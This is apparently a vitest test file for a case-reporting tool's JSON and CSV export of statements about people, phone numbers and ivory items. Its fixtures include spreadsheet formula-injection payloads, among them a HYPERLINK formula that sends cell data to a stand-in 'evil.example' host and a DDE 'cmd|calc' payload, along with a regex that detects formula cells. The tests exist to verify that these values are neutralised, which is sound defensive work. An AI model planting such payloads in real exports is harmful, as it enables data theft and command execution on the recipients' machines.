import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import Ajv2020 from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { beforeAll, describe, expect, it } from 'vitest';
import { checkLayout } from '../../../src/core/package/verify/check-layout.ts';
import { VerdictCollector } from '../../../src/core/package/verify/verdict-collector.ts';
import type { FormInput } from '../../../src/core/forms/form-input.ts';
import type { CaseStatement } from '../../../src/core/statements/case-statement.ts';
import { entitiesFileSchema, taxaFileSchema } from '../../../src/core/statements/entities-file.ts';
import { statementSchema } from '../../../src/core/statements/statement.ts';
import { createEntitiesMaker } from '../../../src/reporting/entities/create-entities-maker.ts';
import { buildCsv } from '../../../src/reporting/tables/csv.ts';
import { projectPath } from '../../support/project.ts';
import { event, makeReportCase } from '../../support/report-case.ts';
import { checkedBagOf } from '../../support/verify-files.ts';

const SHA = `sha256:${'ab'.repeat(32)}` as const;
const id = (n: number): string => `${String(n).padStart(8, '0')}-0000-4000-8000-000000000000`;

function said(n: number, entity: number, content: object, changes: object = {}, standing: Partial<CaseStatement> = {}): CaseStatement {
  const statement = statementSchema.parse({
    format: 'statement/v1',
    id: id(n),
    entity: id(entity),
    nature: 'displayed',
    content,
    evidence: [{ exhibit: 'E-0001', role: 'text', artifact: 'text.txt', sha256: SHA, quote: 'bel =Jan' }],
    handling: ['H1'],
    ...changes,
  });
  return { statement, author: '4711', madeAt: '2026-03-02T09:00:00.000Z', entry: `pugmark.test/${n}`, state: 'current', ...standing };
}

const ASSERTED = { nature: 'asserted', evaluation: { source: 'B', information: '2' }, evidence: [] };
const STATEMENTS: readonly CaseStatement[] = [
  said(
    1,
    101,
    { kind: 'person', fields: { names: ['=HYPERLINK("https://evil.example/?"&A1)', 'Jan, "de Boer"'] } },
    {},
    { state: 'replaced', replacedBy: id(2) },
  ),
  said(2, 101, { kind: 'person', fields: { names: ['Jan de Boer'], born: '1970' } }, { replaces: id(1) }),
  said(3, 102, { kind: 'means-of-communication', fields: { type: 'phone', shown: '+32 470/12.34.56', normalised: '+32470123456' } }),
  said(4, 103, {
    kind: 'item',
    fields: { kind: 'product', taxon: 'Loxodonta africana', term: 'IVC', price: '-12.50', description: 'nice\r\n=cmd|calc!A1;@SUM(1)' },
  }),
  said(5, 104, { kind: 'relation', fields: { type: 'uses', from: id(101), to: id(102), why: 'one ad' } }, ASSERTED),
  said(6, 101, { kind: 'truth', fields: { of: id(2), opinion: 'doubtful' } }, ASSERTED),
  said(
    7,
    103,
    {
      kind: 'identification',
      fields: { taxon: 'Loxodonta', method: 'machine', confidence: 61, listing: { cites: 'I', asOf: '2026-03-02' } },
    },
    ASSERTED,
  ),
];

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '"=1+1',
  '""=cmd|calc!A1""',
  '\uff1d1+1',
  'x;=1+1',
  'x; "=1+1',
  'x\n=1+1',
  'x\t@A1',
  'x"; =1+1; "',
];
const PLAIN = ['-4.4', '12', 'a=b', 'Jan-Piet', 'x; y', "O'Neil", 'a, "b"', 'été\nà Gand', ''];
const MADE = {
  hostile: buildCsv(
    ['a', 'b'],
    HOSTILE.map((text) => ['before', text]),
  ),
  plain: buildCsv(
    ['a', 'b'],
    PLAIN.map((text) => [text, 'x']),
  ),
};

let input: FormInput;
let files: ReadonlyMap<string, Uint8Array>;
let tables: readonly Rows[];
beforeAll(async () => {
  const made = event(90, { type: 'statement.made', details: { statement: id(9), kind: 'person', entity: id(109) } });
  const base = await makeReportCase();
  input = { ...base, statements: [...STATEMENTS], timeline: [...base.timeline, made], answers: {} };
  files = await make(input);
  tables = readCsvs([
    files.get('data/entities/statements.csv'),
    files.get('data/entities/relations.csv'),
    files.get('data/species/identifications.csv'),
    MADE.hostile,
    MADE.plain,
    buildCsv(['a', 'b', 'c'], [['nul \u0000', undefined, true]]),
  ]);
});

async function make(given: FormInput): Promise<ReadonlyMap<string, Uint8Array>> {
  const files = new Map<string, Uint8Array>();
  const options = { scratchFolder: '/nowhere', signal: new AbortController().signal };
  for await (const { path, bytes } of createEntitiesMaker().makeFiles(given, options)) files.set(path, bytes);
  return files;
}

type Rows = readonly Readonly<Record<string, string>>[];

/** Tables as a reader that is not ours takes them; all at once, since it takes its time to start. */
function readCsvs(tables: readonly (Uint8Array | undefined)[]): readonly Rows[] {
  const script = `import base64,csv,io,json,sys
read=lambda t: list(csv.DictReader(io.StringIO(base64.b64decode(t).decode("utf-8-sig"),newline=""),strict=True))
print(json.dumps([read(t) for t in json.load(sys.stdin)]))`;
  const given = JSON.stringify(tables.map((table) => Buffer.from(table ?? []).toString('base64')));
  const { status, stdout, stderr } = spawnSync('python3', ['-S', '-E', '-c', script], { input: given, encoding: 'utf8' });
  if (status !== 0) throw new Error(stderr);
  return JSON.parse(stdout) as readonly Rows[];
}

const json = (bytes: Uint8Array | undefined): unknown => JSON.parse(new TextDecoder().decode(bytes));

describe('the files of statements', () => {
  it('lie where the layout of packages has a place for them', async () => {
    expect([...files.keys()]).toEqual([
      'data/entities/entities.json',
      'data/entities/statements.csv',
      'data/entities/relations.csv',
      'data/species/taxa.json',
      'data/species/identifications.csv',
    ]);
    const collector = new VerdictCollector();
    checkLayout(collector, checkedBagOf(new Map(files)), input.seal);
    expect(collector.has('layout-unknown-file')).toBe(false);
  });

  it('are not there without content', async () => {
    expect([...(await make({ ...input, statements: [] })).keys()]).toEqual([]);
    expect([...(await make({ ...input, statements: STATEMENTS.slice(0, 2) })).keys()]).toEqual([
      'data/entities/entities.json',
      'data/entities/statements.csv',
    ]);
  });

  it('say in JSON what was said, by what it is about, and how many are not shown', async () => {
    const entities = entitiesFileSchema.parse(json(files.get('data/entities/entities.json')));
    expect(entities.naming).toBe('UMF-oriented naming, not UMF-conformant');
    expect(entities.notShown).toBe(1);
    expect(
      entities.entities.map(({ type, attributes, statements }) => [type, statements.length, attributes.map(({ name }) => name)]),
    ).toEqual([
      ['person', 2, ['status', 'names', 'dob', 'is_identified']],
      ['means_of_communication', 1, ['type', 'value_as_shown', 'value_normalised']],
      ['item', 1, ['kind', 'description', 'taxon', 'term', 'price']],
    ]);
    expect(entities.entities[0]?.statements).toEqual(STATEMENTS.slice(0, 2));
    expect(entities.relations).toMatchObject([{ type: 'uses', from: id(101), to: id(102), statement: STATEMENTS[4] }]);
    expect([entities.opinions, entities.identifications, entities.translations]).toEqual([[STATEMENTS[5]], [STATEMENTS[6]], []]);
    const taxa = taxaFileSchema.parse(json(files.get('data/species/taxa.json')));
    expect(taxa.taxa).toMatchObject([
      { name: 'Loxodonta africana', mentions: [{ as: 'item', statement: id(4) }] },
      { name: 'Loxodonta', mentions: [{ as: 'lead', statement: id(7), listing: { cites: 'I', asOf: '2026-03-02' } }] },
    ]);
  });

  it('are tables that others read, one row for each statement', () => {
    const [rows = [], relations, identifications] = tables;
    expect(rows.map((row) => row['statement'])).toEqual(STATEMENTS.map(({ statement }) => statement.id));
    expect(rows[0]).toMatchObject({
      kind: 'person',
      'person.names': `'=HYPERLINK("https://evil.example/?"&A1) | Jan, "de Boer"`,
      state: 'replaced',
      replaced_by: id(2),
      exhibits: 'E-0001',
      evidence: `E-0001 text.txt ${SHA}`,
      quotes: 'bel =Jan',
      handling: 'H1',
      evaluation: '',
      author: '4711',
      log_entry: 'pugmark.test/1',
    });
    expect(rows[2]?.['means_of_communication.value_normalised']).toBe("'+32470123456");
    expect(rows[3]).toMatchObject({ 'item.price': '-12.50', 'item.term': 'IVC' });
    expect(rows[4]).toMatchObject({ nature: 'asserted', evaluation: 'B2', evidence: '' });
    expect(relations).toMatchObject([
      {
        type: 'uses',
        from_kind: 'person',
        from_name: 'Jan de Boer',
        to_kind: 'means-of-communication',
        to_name: "'+32 470/12.34.56",
        why: 'one ad',
      },
    ]);
    expect(identifications).toMatchObject([
      {
        standing: 'lead',
        taxon: 'Loxodonta',
        method: 'machine',
        confidence_percent: '61',
        cites_appendix: 'I',
        listing_as_of: '2026-03-02',
      },
    ]);
  });
});

describe('the published schemas', () => {
  it.each(['data/entities/entities.json', 'data/species/taxa.json'])('take %s, and nothing else', (path) => {
    const file = path.endsWith('taxa.json') ? 'taxa.v1.schema.json' : 'entities.v1.schema.json';
    const ajv = new Ajv2020.default({ strict: true, allErrors: true, allowUnionTypes: true });
    addFormats.default(ajv);
    const validate = ajv.compile(JSON.parse(readFileSync(projectPath('schemas', file), 'utf8')) as object);
    const document = json(files.get(path)) as Record<string, unknown>;
    expect({ passes: validate(document), errors: validate.errors ?? [] }).toEqual({ passes: true, errors: [] });
    expect(validate({ ...document, suspects: [] })).toBe(false);
  });
});

describe('a table', () => {
  const FORMULA = /^[\s"\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

  it('has no cell that a spreadsheet computes, whatever it takes for the end of a cell', () => {
    // The control: as they come, each is one.
    for (const text of HOSTILE) expect(text.split(/[;\t\r\n]/).some((cell) => FORMULA.test(cell))).toBe(true);
    const ofCommas = (tables[3] ?? []).flatMap((row) => Object.values(row));
    expect(ofCommas).toHaveLength(2 * HOSTILE.length);
    const ofOthers = [';', '\t'].flatMap((end) =>
      new TextDecoder()
        .decode(MADE.hostile)
        .split(/\r\n|\r|\n/)
        .flatMap((line) => line.split(end)),
    );
    expect([...ofCommas, ...ofOthers].filter((cell) => FORMULA.test(cell))).toEqual([]);
  });

  it('leaves alone what is none', () => {
    expect((tables[4] ?? []).map((row) => row['a'])).toEqual(PLAIN);
    expect(tables[5]).toEqual([{ a: 'nul \ufffd', b: '', c: 'true' }]);
  });
});
